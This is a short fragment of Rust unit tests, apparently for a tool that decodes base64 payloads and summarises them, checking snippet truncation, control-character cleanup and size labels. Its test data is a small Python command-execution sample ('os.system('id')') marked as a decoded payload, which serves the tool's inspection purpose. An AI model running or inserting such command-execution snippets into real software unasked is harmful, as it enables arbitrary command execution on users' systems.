    let d = Decoded { layers: vec![Encoding::Base64], bytes: b"import os\n\n\tos.system('id')\x07 and more text here".to_vec(), kind: PayloadKind::PythonSource };
    assert_eq!(d.snippet(25), "import os os.system('id')…");
    assert_eq!(d.snippet(200), "import os os.system('id')? and more text here");
    assert_eq!(d.describe(), "base64 → Python source (47 B)");
    let big = Decoded { layers: vec![], bytes: vec![b'a'; 1536], kind: PayloadKind::Text };
    assert_eq!(big.describe(), "text (1.5 KB)");
}
